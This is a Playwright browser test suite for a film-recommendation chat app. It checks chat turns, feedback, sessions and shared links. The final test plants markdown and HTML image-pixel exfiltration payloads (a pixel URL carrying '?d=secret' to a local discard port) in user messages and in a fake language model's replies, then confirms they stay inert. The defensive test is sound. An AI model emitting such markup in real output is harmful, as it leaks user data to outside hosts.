"""The chat app in a real browser: Debian's chromium, driven headless by Playwright.

Set ``PARLEY_SCREENSHOTS=/some/folder`` to keep the screenshots (a temporary folder otherwise).
Playwright never downloads a browser here: the test runs ``/usr/bin/chromium``
(``apt-get install -y chromium``) and fails on CI when it is missing.
"""

from __future__ import annotations

import os
import re
import socket
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from agent.agent import ParleyAgent
from agent.llm import NoLLM, OpenAICompatibleLLM
from knowledge.pack import Pack

pytestmark = [
    pytest.mark.slow,
    # Gradio's queue calls pandas 3 in ways pandas deprecates: not ours to fix.
    pytest.mark.filterwarnings("ignore::DeprecationWarning:gradio.queueing"),
]

CHROMIUM = Path(os.environ.get("PARLEY_CHROMIUM", "/usr/bin/chromium"))
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
TIMEOUT_MS = 60_000
FIRST = "I loved Inception, something like it please"
ON_CI = os.environ.get("CI", "").lower() in {"1", "true", "yes"}

JS_CARD_IDS = (
    "[...document.querySelectorAll('#pl-cards [data-item-id]')].map(e => e.dataset.itemId)"
)
NO_TOASTS = ".toast-wrap { display: none !important; }"
JS_SESSION_TEXT = "document.querySelector('.pl-session').innerText"
JS_TURN_DONE = """n => {
  const chat = document.querySelector('#pl-chat');
  const controls = document.querySelector('#pl-new');
  return chat.querySelectorAll('[data-testid=user]').length === n
    && !chat.innerText.includes('Thinking…') && controls && !controls.disabled;
}"""


def _missing(why: str) -> None:
    if ON_CI:
        pytest.fail(
            f"{why}; CI must install it (apt-get install -y chromium, pip install playwright)"
        )
    pytest.skip(why)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Headless chromium from the system; Playwright's own browser downloads are never used."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _missing("the browser test needs the PyPI package playwright")
    if not CHROMIUM.exists():
        _missing(f"no chromium at {CHROMIUM}")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def shots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the screenshots go."""
    wanted = os.environ.get("PARLEY_SCREENSHOTS")
    folder = Path(wanted) if wanted else tmp_path_factory.mktemp("ui-shots")
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@dataclass
class Served:
    """An app served on this machine and the agent behind it."""

    url: str
    agent: ParleyAgent
    outside: list[str] = field(default_factory=list)
    """Requests the pages made to anywhere but this server (there must be none)."""


def _serve(agent: ParleyAgent) -> Iterator[Served]:
    from ui.app import create_app, launch

    app = create_app(agent)
    port = _free_port()
    launch(app, host="127.0.0.1", port=port, block=False)
    try:
        yield Served(f"http://127.0.0.1:{port}/", agent)
    finally:
        app.close()


@pytest.fixture(scope="module")
def served(demo_pack: Pack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The app over the demo pack, template replies only, sessions in SQLite."""
    sessions = tmp_path_factory.mktemp("sessions") / "sessions.sqlite"
    agent = ParleyAgent(demo_pack, llm=NoLLM(), sessions=sessions)
    agent.turn(agent.new_session(), "I loved Inception")  # load the models before the clock
    yield from _serve(agent)


@pytest.fixture(scope="module")
def served_llm_down(demo_pack: Pack) -> Iterator[Served]:
    """The app with a language-model server that is not there."""
    llm = OpenAICompatibleLLM(f"http://127.0.0.1:{_free_port()}/v1", retries=0, timeout=5)
    yield from _serve(ParleyAgent(demo_pack, llm=llm))


def _page(browser: Any, served: Served) -> tuple[Any, Any]:
    """A new person (their own browser storage) with the app open."""
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    context.set_default_timeout(TIMEOUT_MS)
    local = served.url.rstrip("/")

    def watch(request: Any) -> None:
        if not request.url.startswith((local, "data:", "blob:")):
            served.outside.append(request.url)

    context.on("request", watch)
    page = context.new_page()
    _goto(page, served.url)
    return context, page


def _goto(page: Any, url: str) -> None:
    page.goto(url)
    page.wait_for_selector(".pl-session code")  # the session is open


def _session(page: Any) -> str:
    return str(page.locator(".pl-session code").first.inner_text())


def _send(page: Any, text: str, turns: int) -> None:
    """Type a message, press Enter, and wait until the ``turns``-th reply is complete."""
    page.fill("#pl-input textarea", text)
    page.press("#pl-input textarea", "Enter")
    page.wait_for_function(JS_TURN_DONE, arg=turns)


def _cards(page: Any, other_than: list[str] | None = None) -> list[str]:
    """The item ids on the cards, once there are some (and they differ from ``other_than``)."""
    page.wait_for_function(
        f"prev => {{ const ids = {JS_CARD_IDS}; "
        "return ids.length > 0 && JSON.stringify(ids) !== JSON.stringify(prev); }",
        arg=other_than or [],
    )
    return list(page.evaluate(JS_CARD_IDS))


def _shot(page: Any, path: Path) -> None:
    """A full-page screenshot of the settled page, without toasts over the profile panel."""
    page.screenshot(
        path=path,
        full_page=True,
        animations="disabled",
        style=NO_TOASTS,
    )


def _users(page: Any) -> list[str]:
    return list(page.locator("#pl-chat [data-testid=user]").all_inner_texts())


def test_chat_cards_feedback_resume(browser: Any, served: Served, shots: Path) -> None:
    from playwright.sync_api import expect

    context, page = _page(browser, served)
    expect(page.locator("#pl-chat .example").first).to_be_visible()  # examples for a newcomer
    _shot(page, shots / "01-welcome.png")
    session = _session(page)

    # An empty message is ignored.
    page.fill("#pl-input textarea", "   ")
    page.press("#pl-input textarea", "Enter")
    page.wait_for_timeout(500)
    assert _users(page) == []
    expect(page.locator("#pl-new")).to_have_text("+ New conversation")  # the page is intact

    # The first turn: a streamed reply, its tool steps, and cards with their reasons.
    _send(page, FIRST, turns=1)
    first = _cards(page)
    assert len(first) >= 2
    bot = page.locator("#pl-chat [data-testid=bot]")
    expect(bot.last).to_contain_text("Inception")
    expect(page.locator("#pl-chat")).to_contain_text("tool calls: lookup")
    card = page.locator(".pl-card").first
    for part in (".pl-title", ".pl-genres", ".pl-people", ".pl-desc", ".pl-why li", ".pl-tool"):
        expect(card.locator(part).first).to_be_visible()
    expect(page.locator(".pl-belief-liked")).to_contain_text("Inception (2010)")
    _shot(page, shots / "02-first-turn.png")

    # Dislike the first card: the profile shows it, and the next turn leaves it out.
    disliked = first[0]
    disliked_title = served.agent.pack.catalog[disliked].display_title
    column = page.locator(".pl-card-col").filter(has=page.locator(f'[data-item-id="{disliked}"]'))
    column.locator(".pl-fb-dislike").click()
    expect(page.locator(".toast-wrap")).to_contain_text(f"{disliked_title} is not for you")
    expect(page.locator(".pl-belief-disliked")).to_contain_text(disliked_title)
    expect(column.locator(".pl-fb-dislike")).to_contain_text("Disliked")
    assert disliked in served.agent.profile(session).disliked
    _send(page, "more like that", turns=2)
    second = _cards(page, other_than=first)
    assert disliked not in second
    _shot(page, shots / "03-two-turns.png")

    # Tool calls are collapsible steps, each with its input and result.
    chat = page.locator("#pl-chat")
    chat.get_by_text(re.compile(r"Used \d+ tool calls")).last.click()
    chat.locator(".thought-group .title", has_text="retriever").last.click()
    expect(chat).to_contain_text('"exclude_ids"')  # the retriever's input
    expect(chat).to_contain_text("Result")
    chat.screenshot(path=shots / "04-tool-steps.png", animations="disabled", style=NO_TOASTS)

    # A message over the limit is refused, and stays in the box to be shortened.
    long = "I like films. " * 300  # 4,200 characters
    _send(page, long, turns=3)
    expect(bot.last).to_contain_text("too long")
    assert len(page.input_value("#pl-input textarea")) == len(long)
    _shot(page, shots / "05-refused.png")
    page.fill("#pl-input textarea", "")

    # A reload resumes the session: the dialogue, the cards and the profile.
    page.reload()
    page.wait_for_selector(".pl-session code")
    assert _session(page) == session
    page.wait_for_function(JS_TURN_DONE, arg=2)
    assert _users(page) == [FIRST, "more like that"]
    assert _cards(page) == second
    expect(page.locator(".pl-belief-disliked")).to_contain_text(disliked_title)
    expect(page.locator("#pl-past input")).to_have_value(f"{FIRST} · 2 turns")
    _shot(page, shots / "06-resumed.png")

    # A wrong belief can be removed.
    page.locator(".pl-belief-liked", has_text="Inception (2010)").click()
    expect(page.locator(".pl-belief-liked")).to_have_count(0)
    assert "inception-2010" not in served.agent.profile(session).liked

    # A new conversation starts empty, and still never shows what was disliked.
    page.click("#pl-new")
    page.wait_for_function(f"s => !{JS_SESSION_TEXT}.includes(s)", arg=session)
    assert _session(page) != session and _users(page) == []
    expect(page.locator("#pl-chat .example").first).to_be_visible()
    _send(page, FIRST, turns=1)
    assert disliked not in _cards(page)
    _shot(page, shots / "07-new-conversation.png")

    # The past conversation is one click away.
    page.locator("#pl-past input").click()
    page.get_by_role("option", name=f"{FIRST} · 2 turns").click()
    page.wait_for_function(f"s => {JS_SESSION_TEXT}.includes(s)", arg=session)
    page.wait_for_function(JS_TURN_DONE, arg=2)
    assert _users(page) == [FIRST, "more like that"]
    context.close()
    assert served.outside == []


def test_a_message_typed_as_soon_as_the_page_appears_is_answered(
    browser: Any, served: Served
) -> None:
    """The box takes input only once the browser's session exists, so an eager first message
    is never dropped (it was when the box was live 0.5-1.2 s before the session)."""
    context = browser.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    page = context.new_page()
    page.goto(served.url, wait_until="domcontentloaded")
    box = page.locator("#pl-input textarea")
    box.fill(FIRST)  # waits until the box is editable, then types at once
    box.press("Enter")
    page.wait_for_function(JS_TURN_DONE, arg=1)
    assert _users(page) == [FIRST]
    assert _cards(page)
    assert page.get_attribute("#pl-input textarea", "placeholder") != "Connecting…"
    context.close()


def test_a_card_button_keeps_its_handler_when_the_cards_render_again(
    browser: Any, served: Served
) -> None:
    """A turn renders the cards twice (its cards, then the profile it changed), and a click
    can reach the server between the two. The button must name a handler that still exists:
    CI once showed "Internal Server Error" for a Dislike clicked right after a turn, because
    every render numbered the handlers afresh and dropped the old numbers."""
    from playwright.sync_api import expect

    context, page = _page(browser, served)
    handlers: list[int] = []

    def watch(request: Any) -> None:
        if request.method == "POST" and "/queue/join" in request.url:
            handlers.append(int(request.post_data_json["fn_index"]))

    page.on("request", watch)
    _send(page, FIRST, turns=1)
    item = _cards(page)[1]
    like = (
        page.locator(".pl-card-col")
        .filter(has=page.locator(f'[data-item-id="{item}"]'))
        .locator(".pl-fb-like")
    )
    handlers.clear()
    like.click()
    expect(like).to_contain_text("Liked")  # the cards rendered again with the new profile
    clicked = handlers[0]  # (the renders that follow join the queue too)
    handlers.clear()
    like.click()  # the same button, after the render: liking again takes the like back
    expect(like).not_to_contain_text("Liked")
    assert handlers[0] == clicked
    assert item not in served.agent.profile(_session(page)).liked
    context.close()


def test_two_people_at_once(browser: Any, served: Served, shots: Path) -> None:
    ann_context, ann = _page(browser, served)
    bob_context, bob = _page(browser, served)
    assert _session(ann) != _session(bob)  # each browser has its own session

    # Both ask at the same moment; Bob starts from an example prompt.
    ann.fill("#pl-input textarea", "Something with Tom Hanks")
    ann.press("#pl-input textarea", "Enter")
    bob.locator("#pl-chat .example").first.click()
    ann.wait_for_function(JS_TURN_DONE, arg=1)
    bob.wait_for_function(JS_TURN_DONE, arg=1)
    assert _users(ann) == ["Something with Tom Hanks"]
    assert len(_users(bob)) == 1 and _users(bob) != _users(ann)
    _shot(bob, shots / "08-example-prompt.png")

    # A link with ?session=ID opens that conversation in another browser, as Bob's copy.
    ann_session = _session(ann)
    _goto(bob, f"{served.url}?session={ann_session}")
    copy = _session(bob)
    assert copy != ann_session and served.agent.owner(copy) != served.agent.owner(ann_session)
    bob.wait_for_function(JS_TURN_DONE, arg=1)
    assert _users(bob) == ["Something with Tom Hanks"]
    bob.wait_for_function("() => !window.location.search.includes('session')")
    bob.reload()
    bob.wait_for_selector(".pl-session code")
    assert _session(bob) == copy  # now Bob's browser remembers its copy

    # The chat's own "clear" button starts a new conversation rather than hiding this one.
    bob.locator("#pl-chat").get_by_role("button", name="Clear").click()
    bob.wait_for_function(f"s => !{JS_SESSION_TEXT}.includes(s)", arg=copy)
    assert _users(bob) == [] and _session(bob) != copy
    assert served.agent.messages(ann_session)  # still saved
    ann_context.close()
    bob_context.close()
    assert served.outside == []


def test_unavailable_language_model_is_shown(
    browser: Any, served_llm_down: Served, shots: Path
) -> None:
    from playwright.sync_api import expect

    context, page = _page(browser, served_llm_down)
    expect(page.locator("#pl-notice")).to_be_hidden()
    _send(page, FIRST, turns=1)
    expect(page.locator("#pl-notice")).to_contain_text("language model is unavailable")
    assert _cards(page)  # template replies, and the recommendations all the same
    _shot(page, shots / "09-llm-unavailable.png")
    context.close()
    assert served_llm_down.outside == []


def _beliefs(page: Any) -> list[str]:
    return list(page.locator("#pl-profile .pl-belief").all_inner_texts())


def test_a_made_up_session_link_opens_nobodys_memory(browser: Any, served: Served) -> None:
    """Before sessions had owners, every made-up id shared one user's memory."""
    from playwright.sync_api import expect

    ann_context, ann = _page(browser, served)
    _goto(ann, f"{served.url}?session=ann-made-up-session-11")
    assert _session(ann) != "ann-made-up-session-11"
    expect(ann.locator("#pl-notice")).to_contain_text("not one this app made")
    _send(ann, FIRST, turns=1)
    disliked = _cards(ann)[0]
    column = ann.locator(".pl-card-col").filter(has=ann.locator(f'[data-item-id="{disliked}"]'))
    column.locator(".pl-fb-dislike").click()
    expect(ann.locator(".pl-belief-disliked")).to_have_count(1)

    bob_context, bob = _page(browser, served)
    _goto(bob, f"{served.url}?session=bob-made-up-session-22")
    assert _session(bob) not in {"bob-made-up-session-22", _session(ann)}
    expect(bob.locator("#pl-notice")).to_contain_text("not one this app made")
    assert _beliefs(bob) == [] and _users(bob) == []
    ann_context.close()
    bob_context.close()
    assert served.outside == []


def test_a_shared_link_carries_the_conversation_not_the_owners_memory(
    browser: Any, served: Served, shots: Path
) -> None:
    from playwright.sync_api import expect

    ann_context, ann = _page(browser, served)
    _send(ann, FIRST, turns=1)
    disliked = _cards(ann)[0]
    title = served.agent.pack.catalog[disliked].display_title
    column = ann.locator(".pl-card-col").filter(has=ann.locator(f'[data-item-id="{disliked}"]'))
    column.locator(".pl-fb-dislike").click()
    expect(ann.locator(".pl-belief-disliked")).to_contain_text(title)
    # A new conversation of Ann's starts from her memory: the dislike is there.
    first = _session(ann)
    ann.click("#pl-new")
    ann.wait_for_function(f"s => !{JS_SESSION_TEXT}.includes(s)", arg=first)
    _send(ann, "Something with Tom Hanks", turns=1)
    expect(ann.locator(".pl-belief-disliked")).to_contain_text(title)
    shared = _session(ann)

    bob_context, bob = _page(browser, served)
    _goto(bob, f"{served.url}?session={shared}")
    bob.wait_for_function(JS_TURN_DONE, arg=1)
    assert _users(bob) == ["Something with Tom Hanks"]  # the conversation...
    expect(bob.locator("#pl-notice")).to_contain_text("another browser")
    assert not any(title in b for b in _beliefs(bob))  # ...without Ann's memory
    assert disliked not in bob.locator("#pl-chat").inner_text()  # nor her excluded ids
    _shot(bob, shots / "10-shared-link.png")
    ann_context.close()
    bob_context.close()
    assert served.outside == []


EXFIL_PORT = 9  # discard: nothing listens, and nothing may be fetched from it
MARKUP = (
    f" ![pixel](http://127.0.0.1:{EXFIL_PORT}/p.png?d=secret)"
    f" [more](http://127.0.0.1:{EXFIL_PORT}/link)"
    f" <img src=http://127.0.0.1:{EXFIL_PORT}/i.png> www.example.org"
)
JS_ACTIVE = """() => {
  const chat = document.querySelector('#pl-chat');
  const imgs = [...chat.querySelectorAll('img')].map(e => e.src).filter(s => s.includes(':9/'));
  const links = [...chat.querySelectorAll('a')].map(e => e.href)
    .filter(h => h.includes(':9/') || h.includes('example.org'));
  return [...imgs, ...links];
}"""


@pytest.fixture(scope="module")
def served_markup_llm(demo_pack: Pack) -> Iterator[Served]:
    """The app with a language model that puts images and links into grounded replies."""
    from tests.fixtures.fake_llm import FakeLLMServer

    with FakeLLMServer("faithful") as fake:
        # One image: three addresses in a row read as a loop, and a loop is never shown.
        fake.extra = f" ![pixel](http://127.0.0.1:{EXFIL_PORT}/p.png?d=secret) www.example.org."
        yield from _serve(ParleyAgent(demo_pack, llm=OpenAICompatibleLLM(fake.url)))


def test_markdown_in_replies_and_messages_is_not_active(
    browser: Any, served_markup_llm: Served, shots: Path
) -> None:
    served = served_markup_llm
    context, page = _page(browser, served)
    _send(page, FIRST + MARKUP, turns=1)
    session = _session(page)
    assert served.agent.last_turn(session).reply_source == "llm"  # the model's own text
    chat = page.locator("#pl-chat")
    page.wait_for_timeout(500)
    assert page.evaluate(JS_ACTIVE) == []  # no image, no link...
    assert chat.locator("[data-testid=bot]").last.inner_text().count("![pixel]") == 1
    assert chat.locator("[data-testid=user]").last.inner_text().count("<img src=") == 1
    _shot(page, shots / "11-markup-inert.png")
    context.close()
    assert served.outside == []  # ...and nothing fetched
